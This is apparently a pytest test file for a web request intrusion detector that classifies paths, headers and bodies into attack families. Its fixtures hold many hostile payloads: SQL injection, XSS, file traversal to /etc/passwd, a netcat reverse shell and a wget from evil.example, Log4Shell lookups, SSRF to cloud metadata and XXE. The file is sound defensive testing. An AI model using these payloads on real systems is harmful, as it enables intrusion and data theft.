import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from numpy.typing import NDArray

from detectors.security.families import FAMILIES
from detectors.security.fields import LONGEST
from detectors.security.model import BITS, VERSION, Model, Recipe, hostility, place
from detectors.security.naming import FAMILIES as NAMED
from detectors.security.naming import NAME_BITS
from detectors.security.payloads import (
    EXCERPT,
    LONG,
    LONG_HARMLESS,
    LOOKS_HOSTILE,
    inspect,
    inspect_headers,
    look,
)
from detectors.security.rules import RULES
from detectors.security.signatures import matching, span

ATTACKS = {
    "sqli": [
        "/item?id=1'+or+'1'='1",
        "/item?id=1%20or%201=1--",
        "/item?id=1+un/**/ion+select+1,2,password+from+users",
        "/item?id=1%2520union%2520all%2520select%2520null,null",
        "/item?name=admin'--",
        "/item?id=1;drop+table+users",
        "/item?id=1+and+sleep(5)",
        "/item?id=(select+table_name+from+information_schema.tables)",
        "/item?id=1;waitfor+delay+'0:0:5'",
    ],
    "xss": [
        "/?q=<script>alert(1)</script>",
        "/?q=%3Cimg+src=x+onerror=alert(1)%3E",
        "/?q=%253Csvg/onload=alert(1)%253E",
        "/?u=java%0ascript:alert(1)",
        "/?q=\"+onmouseover=\"alert(document.cookie)",
        "/?q=%26%2360;iframe+src=//evil.example%26gt;",
        "/?q=%uff1cscript%uff1ealert(1)",
        "/<script>alert(1)</script>",
    ],
    "traversal": [
        "/../../../etc/passwd",
        "/?f=..%2f..%2f..%2fetc%2fpasswd",
        "/?f=..%c0%af..%c0%afwindows%c0%afwin.ini",
        "/?f=/etc/shadow",
        "/?f=c:\\windows\\system32\\drivers\\etc\\hosts",
        "/?f=file:///proc/self/environ",
    ],
    "probe": ["/?f=.htpasswd", "/.git/config", "/shell.php", "/backup/site.sql", "/docker-compose.yml"],
    "command": [
        "/?h=127.0.0.1;cat+/etc/hostname",
        "/?h=$(whoami)",
        "/?h=`id`",
        "/?h=a|nc+-e+/bin/sh+192.0.2.1+4444",
        "/?x=()+{+:;};+/bin/bash+-c+id",
        "/?x=;wget+http://evil.example/x.sh",
        "/?x=for+/f+%25i+in+(a.txt)+do+del+%25i",
    ],
    "log4shell": ["/?x=${jndi:ldap://evil.example/a}", "/?x=${${lower:j}ndi:rmi://evil.example}"],
    "code": ["/?x=java.lang.ProcessBuilder", "/?x=system($_GET[a])", "/?x=require('child_process').exec('a')"],
    "ssti": ["/?x={{7*7}}", "/?x=${7*7}", "/?x={{config.items()}}"],
    "ssrf": ["/?u=http://169.254.169.254/latest/meta-data/", "/?u=gopher://127.0.0.1:6379/_info"],
    "redirect": ["/?next=https:///evil.example/a", "/?next=/\\evil.example"],
    "header": ["/?x=a%0d%0aSet-Cookie:+a=b"],
    "xxe": ["/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///etc/passwd'>]>"],
    "nosqli": ["/?x={%22$ne%22:null}"],
    "deserialisation": ["/?x=rO0ABXNyABFq", "/?x=O:8:%22stdClass%22:1:{s:1:%22a%22}"],
}  # fmt: skip

HARMLESS = [
    "/search?q=red+shoes+and+blue+socks",
    "/search?q=O'Brien",
    "/search?q=select+a+plan+from+the+list",
    "/a?title=Clothing,+Shoes+%26+more",
    "/a?next=%2Fcart%3Fitem%3D3%26size%3D2",
    "/a?fields=name|id|title",
    "/a?callback=jQuery1234_5678&_=1",
    "/static/js/jquery.min.js?ver=3.6.0",
    "/a?when=2026-01-01T12:00:00%2B01:00",
    "/a?data=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%22x%22%7D",
    "/a?version=javascript:3.2.2",
]


@pytest.mark.parametrize(("family", "path"), [(family, path) for family, paths in ATTACKS.items() for path in paths])
def test_an_attack_in_a_path_is_evidence_of_its_family(family: str, path: str) -> None:
    assert [piece.family for piece in inspect("path", path.encode())] == [family]


@pytest.mark.parametrize("path", HARMLESS)
def test_harmless_paths_are_no_evidence(path: str) -> None:
    assert inspect("path", path.encode()) == []


@pytest.mark.parametrize(
    "agent",
    [
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
        b"Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; ARM; Touch; NOKIA; Lumia 920)",
        b"Opera/9.80 (MTK; Opera Mini/2.1; U; id) Presto/2.8.119 Version/11.10",
        b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ],
)
def test_agents_are_lists_of_words_and_no_commands(agent: bytes) -> None:
    assert inspect("agent", agent) == []


def test_the_evidence_says_where_it_stood_and_what_it_was() -> None:
    (piece,) = inspect("path", b"/item?id=7&name=x%27%20UNION%20SELECT%20password%20FROM%20users")
    assert (piece.family, piece.rule, piece.field) == ("sqli", "union select", "path name")
    assert "union select password from users" in piece.excerpt


@pytest.mark.parametrize(
    ("field", "raw", "where"),
    [
        ("agent", b"() { :;}; /bin/bash -c id", "agent"),
        ("referer", b"https://a.example/?q=<script>alert(1)</script>", "referer"),
        ("user", b"admin' or '1'='1", "user"),
        ("body", b"name=x&comment=<script>alert(1)</script>", "body comment"),
        ("body", b'{"user": {"name": ["a", "\\u003cscript>alert(1)"]}}', "body name"),
        ("body", b'{"<script>": 1}', "body <script>"),
        ("body", b'{"broken": "<script>alert(1)', "body"),
        ("body", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "body"),
        ("body", b"<?xml version='1.0'?><r><user name='&lt;script&gt;alert(1)'/></r>", "body user"),
        ("body", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>alert(1)\r\n--x--', "body a"),
    ],
)
def test_every_field_is_looked_at(field: str, raw: bytes, where: str) -> None:
    assert [piece.field for piece in inspect(field, raw)] == [where]


def test_header_fields_and_cookies_are_looked_at_but_not_the_usual_ones() -> None:
    headers = {"X-Api": "${jndi:ldap://a}", "Cookie": "a=1; b=' or '1'='1", "Accept": "${jndi:ldap://a}"}
    assert [(p.family, p.field) for p in inspect_headers(headers)] == [
        ("log4shell", "header x-api"),
        ("sqli", "cookie b"),
    ]


def test_one_value_is_one_piece_of_evidence_whatever_it_matches() -> None:
    assert len(inspect("path", b"/?x=;cat%20/etc/passwd%20|%20sh")) == 1


@given(
    field=st.sampled_from(["path", "agent", "body"]),
    raw=st.binary(max_size=80) | st.text(alphabet="?&=%+{[\"'<>/*\\\x00;()ax1 é", max_size=60).map(str.encode),
)
def test_no_bytes_break_it_and_no_excerpt_is_long(field: str, raw: bytes) -> None:
    for piece in inspect(field, raw):
        assert len(piece.excerpt) <= EXCERPT
        assert piece.excerpt.isprintable()


@pytest.mark.parametrize(
    "raw",
    [
        b"/?q=" + b"a" * 1_000_000,
        b"/?q=" + b"(a+)+" * 20_000 + b"!",
        b"/?" + b"&" * 200_000,
        b"/?q=" + b"<" * 100_000,
        b"/?q=" + b"' or " * 20_000,
        b"/" + b"\xed\xa0\x80\x00" * 10_000,
        b"/?q=" + b"%" * 100_000,
    ],
)
def test_large_and_wicked_texts_are_no_trouble(raw: bytes) -> None:
    inspect("path", raw)
    inspect("body", raw)


@pytest.mark.parametrize("raw", [b"[" * 100_000, b'{"a":' * 50_000, b"[" + b'"a",' * 100_000 + b'"<script>"]'])
def test_deep_and_wide_json_is_no_trouble(raw: bytes) -> None:
    inspect("body", raw)


def test_parameters_beyond_the_most_are_looked_at_together() -> None:
    raw = b"/?" + b"&".join(b"a%d=1" % n for n in range(400)) + b"&z=<script>alert(1)</script>"
    assert [piece.family for piece in inspect("path", raw)] == ["xss"]


def test_what_stands_behind_the_longest_part_is_not_looked_at() -> None:
    assert inspect("body", b" " * LONGEST + b"<script>") == []


def test_names_of_rules_are_unique_and_say_their_family() -> None:
    assert len({(rule.family, rule.name) for rule in RULES}) == len(RULES)
    assert {rule.family for rule in RULES} == set(ATTACKS) == set(FAMILIES) - {"payload"}


def test_all_rules_together_find_what_each_finds_alone() -> None:
    for paths in ATTACKS.values():
        for text in paths:
            low = text.lower()
            for rule in matching(low):
                start, end = span(rule, low.encode())
                assert 0 <= start < end <= len(low.encode())


def model_of(weights: NDArray[np.int8]) -> Model:
    """Return a model with given weights, and none of families."""
    return Model(weights, np.zeros((1 << NAME_BITS, len(NAMED)), np.int8), Recipe(VERSION, ""))


def test_what_no_rule_matches_but_looks_like_an_attack_is_given_the_family_that_it_looks_like() -> None:
    weights = np.zeros(1 << BITS, np.int8)
    weights[int(place(ord("#"), 1))] = 127
    model = model_of(weights)
    model.families[:, NAMED.index("ssti")] = 1
    (piece,) = inspect("path", b"/?a=%23%23%23&b=c", model)
    assert (piece.family, piece.rule, piece.field, piece.excerpt) == ("ssti", LOOKS_HOSTILE, "path a", "###")


def test_a_signature_counts_for_nothing_where_the_model_is_sure_that_all_is_well() -> None:
    assert inspect("path", b"/?q=<script>alert(1)</script>", model_of(np.full(1 << BITS, -127, np.int8))) == []
    assert inspect("path", b"/?q=<script>alert(1)</script>", model_of(np.zeros(1 << BITS, np.int8))) != []


def test_a_firm_rule_is_heard_where_the_model_thinks_otherwise_but_is_not_sure() -> None:
    weak, firm = b"/?q=1'+or+'1'='1", b"/?q=1+union+select+2"
    weights = np.full(1 << BITS, -5, np.int8)
    assert -1.5 < hostility("1 union select 2", weights) < -0.5
    assert inspect("path", weak, model_of(weights)) == []
    assert [piece.rule for piece in inspect("path", firm, model_of(weights))] == ["union select"]


def test_the_more_speaks_for_an_attack_the_higher_its_score_up_to_two() -> None:
    neutral = model_of(np.zeros(1 << BITS, np.int8))
    (one,), (several,) = (
        inspect("path", raw, neutral) for raw in (b"/?q=<!--", b"/?q=';select+1+from+a;drop+table+b--")
    )
    assert 1.0 < one.score < several.score < 2.0


def test_the_model_is_not_asked_about_fields_that_it_has_not_learned() -> None:
    hostile = model_of(np.full(1 << BITS, 127, np.int8))
    assert inspect("agent", b"a b", hostile) != []
    assert inspect("user", b"a b", hostile) == []
    assert inspect_headers({"Sec-Brand": '"Not A;Brand";v="99"', "X-Odd": "'\"><'\"--#"}) == []


def test_in_a_long_text_a_rule_needs_more_of_the_model() -> None:
    weights = np.full(1 << BITS, -2, np.int8)
    short, long = "<!-- some words -->", "<!-- some words --> and " + "so they went on " * 3
    assert len(short) < LONG <= len(long)
    assert -0.5 < hostility(long, weights) < LONG_HARMLESS
    assert inspect("body", short.encode(), model_of(weights)) != []
    assert inspect("body", long.encode(), model_of(weights)) == []


@pytest.mark.parametrize("raw", [b'{"a": "b', b"<?xml version='1.0'?><a", b"--x\r\nno head--x", b"[" * 200])
def test_a_body_that_is_not_what_it_seems_is_looked_at_as_text_and_told(raw: bytes) -> None:
    assert look("body", raw).understood is False
    assert look("body", raw + b"<script>alert(1)</script>").evidence != []


@pytest.mark.parametrize("text", ["```python\nfrom a import b\n```", "```bash\npip install -u a\n```", "```sh -x```"])
def test_the_beginning_of_a_block_of_code_is_no_command(text: str) -> None:
    assert [rule.name for rule in matching(text) if rule.family == "command"] == []


def test_a_command_between_two_signs_that_have_a_shell_run_it_is_one() -> None:
    assert "command" in {rule.family for rule in matching("a`cat /tmp/a`")}
